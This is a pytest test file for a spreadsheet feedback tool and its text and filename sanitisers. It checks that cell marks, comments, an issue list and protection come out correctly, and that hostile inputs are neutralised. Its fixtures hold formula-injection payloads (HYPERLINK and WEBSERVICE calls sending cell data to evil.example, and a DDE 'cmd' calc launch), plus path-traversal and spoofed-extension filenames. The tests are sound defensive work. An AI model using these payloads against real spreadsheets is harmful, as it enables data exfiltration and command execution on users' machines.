"""Feedback workbooks (xltool.read.feedback) and the sanitising helpers they rely on (xltool.base.text).

The feedback tests run on a real template from the writer, with issues pointing at cells taken
from the layout, and check the reopened file cell by cell: fills, comments, the issue list,
links, protection, and that nothing else changed.
"""

from __future__ import annotations

import hashlib
import io
import logging
import os
import re
import unicodedata
import zipfile
from copy import copy
from pathlib import Path

import hostile_files
import libreoffice as lo
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from xltool.base import files as fsutil
from xltool.base.errors import InputFileError
from xltool.base.text import MAX_CELL_CHARS, safe_filename, safe_text, write_text
from xltool.check.issues import Issue
from xltool.read.feedback import write_feedback
from xltool.spec.layout import build_layout
from xltool.spec.model import load_model
from xltool.template.writer import TemplateOptions, write_template

LIST = "问题清单"
RED, YELLOW = "FFFFC7CE", "FFFFEB9C"
INJECTION = '=HYPERLINK("http://evil.example/x?d="&A1,"点此查看")'
MODEL = load_model("annual-report-2021")
LAYOUT = build_layout(MODEL)
DATA_SHEETS = [s.name for s in LAYOUT.sheets]


def box(pointer: str):
    return LAYOUT.fields[pointer].box


TOTAL = box("/applications/results/total/natural_person")  # derived (a formula), 三、依申请公开!D31
CODE = box("/organization/code")  # merged B5:D5 on 一、总体情况
ISSUED = box("/proactive/regulations/issued")  # a plain input cell


def issues() -> list[Issue]:
    """Given in an order different from the sorted one."""
    return [
        Issue(
            "TEXT_NUMBER",
            "warning",
            "数字以文本形式存储",
            "number stored as text",
            pointer="/applications/results/total/natural_person",
            sheet=TOTAL.sheet,
            cell=TOTAL.a1,
            found="12",
        ),
        Issue(
            "R1",
            "error",
            "合计应等于各项之和",
            "total must equal the sum",
            pointer="/applications/results/total/natural_person",
            sheet=TOTAL.sheet,
            cell=TOTAL.a1,
            rule="R1",
            expected=10,
            found=12,
        ),
        Issue("NOT_IN_TEMPLATE", "warning", "找不到该工作表", "no such sheet", sheet="不存在的表", cell="A1"),
        Issue(
            "BAD_CODE",
            "error",
            "统一社会信用代码格式不正确",
            "malformed organisation code",
            pointer="/organization/code",
            sheet=CODE.sheet,
            cell=CODE.a1,
            expected="18位代码",
            found=INJECTION,
        ),
        Issue("REQUIRED", "error", "缺少联系人", "contact missing", pointer="/contact"),
        Issue(
            "BLANK_CELL",
            "warning",
            "未填写，按 0 处理",
            "blank, read as 0",
            pointer="/proactive/regulations/issued",
            sheet=ISSUED.sheet,
            cell=ISSUED.a1,
        ),
    ]


SUMMARY = "共 3 个错误、3 个警告，请修改标红单元格后重新提交"
HEADER = ("序号", "级别", "位置", "代码", "说明", "应为", "实际")
ROWS = [
    (1, "错误", "/contact", "REQUIRED", "缺少联系人", None, None),
    (2, "错误", "一、总体情况!B5", "BAD_CODE", "统一社会信用代码格式不正确", "18位代码", INJECTION),
    (3, "警告", "二、主动公开!B7", "BLANK_CELL", "未填写，按 0 处理", None, None),
    (4, "错误", "三、依申请公开!D31", "R1", "合计应等于各项之和", 10, 12),
    (5, "警告", "三、依申请公开!D31", "TEXT_NUMBER", "数字以文本形式存储", None, "12"),
    (6, "警告", "不存在的表!A1", "NOT_IN_TEMPLATE", "找不到该工作表", None, None),
]
LINKS = [None, "'一、总体情况'!B5", "'二、主动公开'!B7", "'三、依申请公开'!D31", "'三、依申请公开'!D31", None]
COMMENTS = {
    (CODE.sheet, "B5"): f"【错误】统一社会信用代码格式不正确\n应为：18位代码；实际：{INJECTION}",
    (ISSUED.sheet, "B7"): "【警告】未填写，按 0 处理",
    (TOTAL.sheet, "D31"): "1. 【错误】合计应等于各项之和\n2. 【警告】数字以文本形式存储\n实际：12",
}
FILLED = {(CODE.sheet, "B5"): RED, (ISSUED.sheet, "B7"): YELLOW, (TOTAL.sheet, "D31"): RED}


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data, _ = write_template(MODEL, TemplateOptions(year=2025, org_name="某乡", issue_date="2026-01-05"))
    path = tmp_path_factory.mktemp("tpl") / "某乡-2025.xlsx"
    path.write_bytes(data)
    return path


@pytest.fixture
def source(template: Path, tmp_path: Path) -> Path:
    path = tmp_path / "returned.xlsx"
    path.write_bytes(template.read_bytes())
    return path


def marks(wb: openpyxl.Workbook) -> tuple[dict, dict]:
    """(fills, comments) of every cell outside the issue list that has our fill or a comment."""
    fills, comments = {}, {}
    for ws in wb.worksheets:
        if ws.title == LIST:
            continue
        for row in ws.iter_rows():
            for c in row:
                if c.fill.fill_type == "solid" and c.fill.fgColor.rgb in (RED, YELLOW):
                    fills[(ws.title, c.coordinate)] = c.fill.fgColor.rgb
                if getattr(c, "comment", None) is not None:
                    comments[(ws.title, c.coordinate)] = (c.comment.text, c.comment.author)
    return fills, comments


def rows(ws) -> list[tuple]:
    return [tuple(r) for r in ws.iter_rows(values_only=True)]


def sheet_xml(path: Path, title: str) -> str:
    """The raw XML of the worksheet called `title`."""
    with zipfile.ZipFile(path) as zf:
        wb_xml, rels = zf.read("xl/workbook.xml").decode(), zf.read("xl/_rels/workbook.xml.rels").decode()
        rid = re.search(rf'<sheet [^>]*name="{title}"[^>]*r:id="(rId\d+)"', wb_xml).group(1)
        target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels)
        target = target or re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels)
        return zf.read("xl/" + target.group(1).lstrip("/").removeprefix("xl/")).decode()


# --- the feedback workbook ------------------------------------------------------------------------


def test_feedback_marks_cells_lists_issues_and_keeps_everything_else(source: Path, tmp_path: Path) -> None:
    before = hashlib.sha256(source.read_bytes()).hexdigest()
    out = write_feedback(source, issues(), tmp_path / "反馈.xlsx")
    assert out == tmp_path / "反馈.xlsx"
    assert hashlib.sha256(source.read_bytes()).hexdigest() == before  # source never touched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["returned.xlsx", "反馈.xlsx"]  # no temp left

    src, fb = openpyxl.load_workbook(source), openpyxl.load_workbook(out)
    assert marks(src) == ({}, {})  # premise: the template has none of our marks
    fills, comments = marks(fb)
    assert fills == FILLED
    assert comments == {k: (v, "xltool") for k, v in COMMENTS.items()}

    # everything but the fill of the marked cells is as it was: values, formats, borders, locks
    assert fb.sheetnames == src.sheetnames + [LIST]
    for ws in src.worksheets:
        for row in ws.iter_rows():
            for c in row:
                d = fb[ws.title][c.coordinate]
                # openpyxl writes an empty string cell as an empty cell: "" comes back as None
                assert (
                    d.value if d.value is not None else "" if c.value == "" else None,
                    d.number_format,
                    *map(copy, (d.border, d.font, d.alignment, d.protection)),
                ) == (c.value, c.number_format, *map(copy, (c.border, c.font, c.alignment, c.protection))), (
                    ws.title,
                    c.coordinate,
                )
                if (ws.title, c.coordinate) not in FILLED:
                    assert copy(d.fill) == copy(c.fill)
    assert fb[TOTAL.sheet][TOTAL.a1].value.startswith("=SUM(")  # the formula cell stays a formula
    assert set(fb.defined_names) == set(src.defined_names)
    for ws in src.worksheets:  # the template's own checks survive, so the file can be resubmitted
        new = fb[ws.title]
        assert new.sheet_state == ws.sheet_state  # _xltool stays hidden
        assert len(new.data_validations.dataValidation) == len(ws.data_validations.dataValidation)
        assert len(new.conditional_formatting) == len(ws.conditional_formatting)

    # protection: data sheets and workbook structure as before, the list sheet unprotected
    for ws in src.worksheets:
        assert fb[ws.title].protection.sheet is True
        assert fb[ws.title].protection.password == ws.protection.password
    assert fb.security.lockStructure is True
    assert fb[LIST].protection.sheet is False

    # the issue list: last, active, the only selected tab
    ws = fb[LIST]
    assert fb.active.title == LIST and fb.sheetnames[-1] == LIST
    assert [s.title for s in fb.worksheets if s.sheet_view.tabSelected] == [LIST]
    assert rows(ws) == [(SUMMARY,) + (None,) * 6, HEADER] + ROWS
    assert [ws.cell(r, 3).hyperlink.location if ws.cell(r, 3).hyperlink else None for r in range(3, 9)] == LINKS
    assert all(ws.cell(2, c).font.b for c in range(1, 8))
    assert ws.auto_filter.ref == "A2:G8"
    assert ws.freeze_panes == "A3"
    assert [ws.column_dimensions[col].width for col in "ABCDEFG"] == [6, 8, 28, 16, 60, 20, 20]
    assert ws["E3"].alignment.wrap_text is True
    assert ws["B4"].fill.fgColor.rgb == RED and ws["B5"].fill.fgColor.rgb == YELLOW


def test_injected_formula_is_stored_as_text(source: Path, tmp_path: Path) -> None:
    out = write_feedback(source, issues(), tmp_path / "fb.xlsx")
    cell = openpyxl.load_workbook(out)[LIST]["G4"]
    assert (cell.value, cell.data_type) == (INJECTION, "s")
    assert cell.quotePrefix  # stays text if a user re-enters the cell
    xml = sheet_xml(out, LIST)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere on the list sheet
    assert "HYPERLINK" in xml
    code_sheet = sheet_xml(out, CODE.sheet)
    assert "HYPERLINK" not in code_sheet  # the comment holds it, not a cell


def test_title_line_and_english(source: Path, tmp_path: Path) -> None:
    out = write_feedback(source, issues()[:2], tmp_path / "fb.xlsx", title="某乡 2025 年度报告 审核意见")
    ws = openpyxl.load_workbook(out)[LIST]
    assert rows(ws)[:3] == [
        ("某乡 2025 年度报告 审核意见",) + (None,) * 6,
        ("共 1 个错误、1 个警告，请修改标红单元格后重新提交",) + (None,) * 6,
        HEADER,
    ]
    assert ws.freeze_panes == "A4" and ws.auto_filter.ref == "A3:G5"

    out = write_feedback(source, issues()[1:2], tmp_path / "en.xlsx", lang="en")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[-1] == "Issues" and LIST not in wb.sheetnames
    assert rows(wb["Issues"]) == [
        ("1 error(s), 0 warning(s); please correct the highlighted cells and resubmit",) + (None,) * 6,
        ("No.", "Level", "Location", "Code", "Message", "Expected", "Found"),
        (1, "Error", "三、依申请公开!D31", "R1", "total must equal the sum", 10, 12),
    ]
    assert wb[TOTAL.sheet][TOTAL.a1].comment.text == "【Error】total must equal the sum"  # a rule names both sides
    with pytest.raises(ValueError):
        write_feedback(source, [], tmp_path / "x.xlsx", lang="fr")


def test_no_issues(source: Path, tmp_path: Path) -> None:
    out = write_feedback(source, [], tmp_path / "fb.xlsx")
    wb = openpyxl.load_workbook(out)
    assert rows(wb[LIST]) == [("未发现问题",) + (None,) * 6, HEADER]
    assert marks(wb) == ({}, {})


def test_pointer_only_and_odd_cells_are_listed_not_marked(source: Path, tmp_path: Path) -> None:
    odd = [
        Issue("P", "error", "只有指针", "pointer only", pointer="/x"),
        Issue("BAD", "warning", "坏坐标", "bad cell", sheet=TOTAL.sheet, cell="1A"),
        Issue("FAR", "warning", "超出范围", "beyond the grid", sheet=TOTAL.sheet, cell="XFE1"),
        Issue("MERGED", "error", "合并单元格内部", "inside a merge", sheet=CODE.sheet, cell="C5"),
    ]
    out = write_feedback(source, odd, tmp_path / "fb.xlsx")
    wb = openpyxl.load_workbook(out)
    fills, comments = marks(wb)
    assert fills == {(CODE.sheet, "B5"): RED}  # a merged cell is marked at its top-left cell
    assert comments == {(CODE.sheet, "B5"): ("【错误】合并单元格内部", "xltool")}
    ws = wb[LIST]
    assert [r[2] for r in rows(ws)[2:]] == ["/x", "一、总体情况!C5", "三、依申请公开!1A", "三、依申请公开!XFE1"]
    assert [ws.cell(r, 3).hyperlink.location if ws.cell(r, 3).hyperlink else None for r in range(3, 7)] == [
        None,
        "'一、总体情况'!B5",
        None,
        None,
    ]


def test_feedback_of_a_feedback_file_replaces_list_and_stale_comments(source: Path, tmp_path: Path) -> None:
    first = write_feedback(source, issues(), tmp_path / "first.xlsx")
    second = write_feedback(first, issues()[5:], tmp_path / "second.xlsx")
    wb = openpyxl.load_workbook(second)
    assert wb.sheetnames.count(LIST) == 1 and wb.sheetnames[-1] == LIST
    assert marks(wb)[1] == {(ISSUED.sheet, "B7"): ("【警告】未填写，按 0 处理", "xltool")}
    assert rows(wb[LIST])[2:] == [(1,) + ROWS[2][1:]]


def test_refuses_to_overwrite_the_source(source: Path, tmp_path: Path) -> None:
    data = source.read_bytes()
    link, hard = tmp_path / "link.xlsx", tmp_path / "hard.xlsx"
    link.symlink_to(source)
    os.link(source, hard)
    for out in (source, tmp_path / "." / source.name, link, hard):
        with pytest.raises(ValueError, match="overwrite"):
            write_feedback(source, issues(), out)
    assert source.read_bytes() == data


def test_failed_write_leaves_no_partial_file(source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "fb.xlsx"
    out.write_bytes(b"previous feedback")

    def disk_full(fd: int) -> None:  # the temp file is written, then the disk fills up
        raise OSError("disk full")

    monkeypatch.setattr(fsutil.os, "fsync", disk_full)
    with pytest.raises(OSError, match="disk full"):
        write_feedback(source, issues(), out)
    assert out.read_bytes() == b"previous feedback"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fb.xlsx", "returned.xlsx"]


def test_refuses_non_xlsx_sources(tmp_path: Path) -> None:
    xls = hostile_files.minimal_xls(tmp_path)
    with pytest.raises(InputFileError) as err:
        write_feedback(xls, issues(), tmp_path / "fb.xlsx")
    assert err.value.code == "FEEDBACK_NEEDS_XLSX"
    with pytest.raises(InputFileError) as err:
        write_feedback(hostile_files.csv_renamed(tmp_path), issues(), tmp_path / "fb.xlsx")
    assert err.value.code == "NOT_A_WORKBOOK"
    assert not (tmp_path / "fb.xlsx").exists()


def test_openpyxl_warnings_about_dropped_parts_are_logged(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """xlsxwriter's 2010 data bars are an extension openpyxl drops, with a UserWarning; under
    filterwarnings=error that warning must neither escape nor be silently lost on the openpyxl
    path. The XML patch keeps the extension as it was."""
    import xlsxwriter

    from xltool.read.feedback import _sniff, openpyxl_feedback

    src = tmp_path / "bars.xlsx"
    wb = xlsxwriter.Workbook(src)
    ws = wb.add_worksheet("表1")
    ws.write_column(0, 0, [1, 2, 3])
    ws.conditional_format("A1:A3", {"type": "data_bar", "data_bar_2010": True})
    wb.close()
    marked = [Issue("X", "error", "错", "wrong", sheet="表1", cell="A2")]
    with caplog.at_level(logging.INFO, logger="xltool.read.feedback"):
        data = openpyxl_feedback(_sniff(src), src, marked, lang="zh", title=None)
    assert any("extension is not supported" in r.getMessage() for r in caplog.records)
    assert openpyxl.load_workbook(io.BytesIO(data))["表1"]["A2"].fill.fgColor.rgb == RED
    out = write_feedback(src, marked, tmp_path / "fb.xlsx")
    with pytest.warns(UserWarning, match="extension is not supported"):  # still there to drop
        assert openpyxl.load_workbook(out)["表1"]["A2"].fill.fgColor.rgb == RED
    assert "<x14:dataBar" in sheet_xml(src, "表1") and "<x14:dataBar" in sheet_xml(out, "表1")


@pytest.mark.needs("soffice")
def test_source_resaved_by_libreoffice_and_output_opens_in_libreoffice(template: Path, tmp_path: Path) -> None:
    resaved = lo.recalc_resave(template, tmp_path / "lo.xlsx")
    out = write_feedback(resaved, issues(), tmp_path / "fb.xlsx")
    wb = openpyxl.load_workbook(out)
    fills, comments = marks(wb)
    assert fills == FILLED
    assert comments == {k: (v, "xltool") for k, v in COMMENTS.items()}
    assert rows(wb[LIST]) == [(SUMMARY,) + (None,) * 6, HEADER] + ROWS
    assert all(wb[name].protection.sheet for name in DATA_SHEETS)
    # and LibreOffice reads our output back: comments, list and the injected text intact
    back = openpyxl.load_workbook(lo.convert(out, tmp_path / "back", "xlsx"))
    assert back[TOTAL.sheet][TOTAL.a1].comment.text == COMMENTS[(TOTAL.sheet, "D31")]
    assert back[LIST]["G4"].value == INJECTION and back[LIST]["G4"].data_type == "s"
    assert back[LIST]["A8"].value == 6


# --- sanitize ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+A1", "-1+2", "+1 2", "@SUM(A1)", "\tx", "\r=1", "\n=1", "  =cmd|' /C calc'!A0", INJECTION]
)
def test_safe_text_quotes_formula_starts(text: str) -> None:
    assert safe_text(text) == "'" + text
    assert safe_text(text, quote=False) == text


@pytest.mark.parametrize(
    "value,expected",
    [
        (None, ""),
        ("", ""),
        ("某乡人民政府", "某乡人民政府"),
        (12, "12"),
        (-5, "-5"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("1e5", "1e5"),
        ("a=b", "a=b"),
        ("x\x00y\x1fz\x0b", "x\ufffdy\ufffdz\ufffd"),
        ("\ufffe\ud800", "\ufffd\ufffd"),
        ("tab\tinside\nok", "tab\tinside\nok"),
    ],
)
def test_safe_text_values(value, expected) -> None:
    assert safe_text(value) == expected


def test_safe_text_caps_length_in_utf16_units() -> None:
    assert safe_text("字" * 40_000) == "字" * MAX_CELL_CHARS
    assert safe_text("=" + "a" * 40_000) == "'=" + "a" * (MAX_CELL_CHARS - 2)
    capped = safe_text("😀" * 20_000)  # two UTF-16 units each: never half a pair
    assert capped == "😀" * (MAX_CELL_CHARS // 2)


def test_write_text_makes_a_string_cell_that_survives_saving(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    write_text(ws["A1"], INJECTION)
    write_text(ws["A2"], "正常\x07文本")
    assert ws["A1"].data_type == "s"
    wb.save(tmp_path / "w.xlsx")
    back = openpyxl.load_workbook(tmp_path / "w.xlsx").active
    assert (back["A1"].value, back["A1"].data_type, back["A1"].quotePrefix) == (INJECTION, "s", True)
    assert (back["A2"].value, back["A2"].quotePrefix) == ("正常\ufffd文本", False)


@pytest.mark.parametrize(
    "name,expected",
    [
        ("某乡人民政府", "某乡人民政府"),
        ("../../etc/passwd", "_._etc_passwd"),
        ("..\\..\\Windows\\System32\\cmd.exe", "_._Windows_System32_cmd.exe"),
        ("/abs/path", "_abs_path"),
        ("a..b", "a.b"),
        ("CON", "_CON"),
        ("con.txt", "_con.txt"),
        ("Nul", "_Nul"),
        ("LPT1.xlsx", "_LPT1.xlsx"),
        ("COM9", "_COM9"),
        ("CON .xlsx", "_CON.xlsx"),
        ("CONSOLE", "CONSOLE"),
        ("COM10", "COM10"),
        ('a<b>c:d"e|f?g*h', "a_b_c_d_e_f_g_h"),
        ("报表\x00\x1f\n.xlsx", "报表___.xlsx"),
        ("invoice\u202excod.exe", "invoicexcod.exe"),  # right-to-left override (spoofed extension) dropped
        ("  .hidden. . ", "hidden"),
        ("", "unnamed"),
        ("...", "unnamed"),
        (" ", "unnamed"),
        ("/", "_"),
        ("e\u0301cole", "\u00e9cole"),
    ],
)
def test_safe_filename(name: str, expected: str) -> None:
    assert safe_filename(name) == expected


def test_safe_filename_truncates_long_chinese_names_on_character_boundaries() -> None:
    name = "某某省某某市某某县某某乡人民政府政务公开办公室" * 4
    short = safe_filename(name)
    assert len(short.encode("utf-8")) <= 80 and short == name[:26]  # 26 * 3 bytes
    with_ext = safe_filename(name + ".xlsx", max_len=40)
    assert with_ext == name[:11] + ".xlsx" and len(with_ext.encode()) == 38
    with pytest.raises(ValueError):
        safe_filename("x", max_len=8)


def test_collisions_after_sanitising_are_the_callers_job() -> None:
    names = ["甲乡/乙村", "甲乡:乙村", "甲乡\\乙村"]
    assert {safe_filename(n) for n in names} == {"甲乡_乙村"}
    unique = {f"{safe_filename(n, max_len=70)}-{hashlib.sha256(n.encode()).hexdigest()[:8]}" for n in names}
    assert len(unique) == 3  # the recipe in safe_filename's docstring


@settings(max_examples=300, deadline=None)
@given(st.text(), st.integers(min_value=16, max_value=255))
def test_safe_filename_properties(name: str, max_len: int) -> None:
    out = safe_filename(name, max_len=max_len)
    assert out and len(out.encode("utf-8")) <= max_len
    assert not set(out) & set('/\\<>:"|?*') and ".." not in out
    assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Cs") for ch in out)
    assert out[0] not in ". " and out[-1] not in ". "
    assert out.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT1"}


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_safe_text_is_always_storable(text: str) -> None:
    out = safe_text(text)
    wb = openpyxl.Workbook()
    write_text(wb.active["A1"], text)
    wb.save(io.BytesIO())  # openpyxl refuses illegal characters: this must never raise
    assert len(out.encode("utf-16-le", "surrogatepass")) <= 2 * MAX_CELL_CHARS
    assert not out.startswith(("=", "@", "\t", "\r", "\n"))  # +5 and -5 are numbers, left alone


LIVE = {
    "/proactive/regulations/issued": "=cmd|' /C calc'!A0",
    "/proactive/regulations/repealed": '=WEBSERVICE("http://evil.example/?d="&B4)',
    "/organization/name": '=HYPERLINK("http://evil.example/","点此")',
}


def _sheet_xml(path: Path, sheet: str) -> str:
    names = openpyxl.load_workbook(path, read_only=True).sheetnames
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{names.index(sheet) + 1}.xml").decode("utf-8")


def test_formulas_typed_into_inputs_are_text_in_the_feedback(source: Path, tmp_path: Path) -> None:
    """A formula a user typed (DDE, WEBSERVICE, HYPERLINK) must not run again on the machines the
    feedback goes to: the copy keeps its text as a string and drops the formula; totals stay live."""
    from xltool.read.reader import read_workbook

    wb = openpyxl.load_workbook(source)
    for pointer, formula in LIVE.items():
        wb[box(pointer).sheet][box(pointer).a1] = formula
    wb.save(source)
    before = _sheet_xml(source, ISSUED.sheet)
    assert "<f>cmd|' /C calc'!A0</f>" in before
    result = read_workbook(source, model=MODEL)
    assert {i.pointer for i in result.issues if i.code == "FORMULA_IN_INPUT"} == set(LIVE)
    out = write_feedback(source, result.issues, tmp_path / "feedback.xlsx")

    back = openpyxl.load_workbook(out)
    got = {p: (back[box(p).sheet][box(p).a1].data_type, back[box(p).sheet][box(p).a1].value) for p in LIVE}
    assert got == {p: ("s", formula) for p, formula in LIVE.items()}
    after = _sheet_xml(out, ISSUED.sheet) + _sheet_xml(out, box("/organization/name").sheet)
    assert not re.search(r"<f>[^<]*(cmd\||WEBSERVICE|HYPERLINK)", after)
    total = back[TOTAL.sheet][TOTAL.a1]
    assert (total.data_type, str(total.value).startswith("=SUM(")) == ("f", True)
